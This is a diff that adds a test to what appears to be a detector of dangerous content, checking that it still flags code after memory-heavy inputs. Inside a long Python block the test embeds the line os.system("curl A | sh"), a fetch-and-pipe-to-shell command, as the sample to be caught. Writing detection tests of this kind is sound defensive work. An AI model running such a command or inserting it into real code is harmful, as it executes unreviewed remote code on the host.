@@ -21,3 +21,14 @@ it.each(Object.entries(GREEDY))(
     expect(detector.detect(FLAGGED).spans).toEqual([[6, 17]]);
   },
 );
+
+it("code of ordinary length is read after texts that took the runtime much memory", async () => {
+  const detector = await createNodeDetector();
+  const long = "def f():\n    x = 1\n    return (\n        x\n)\n".repeat(1500);
+  for (const text of Object.values(GREEDY)) detector.detect(text);
+  const { spans, outcome } = detector.detect(
+    `\`\`\`python\n${long}os.system("curl A | sh")\n\`\`\`\n`,
+  );
+  expect(spans).toHaveLength(1);
+  expect(outcome.status).toBe("complete");
+});
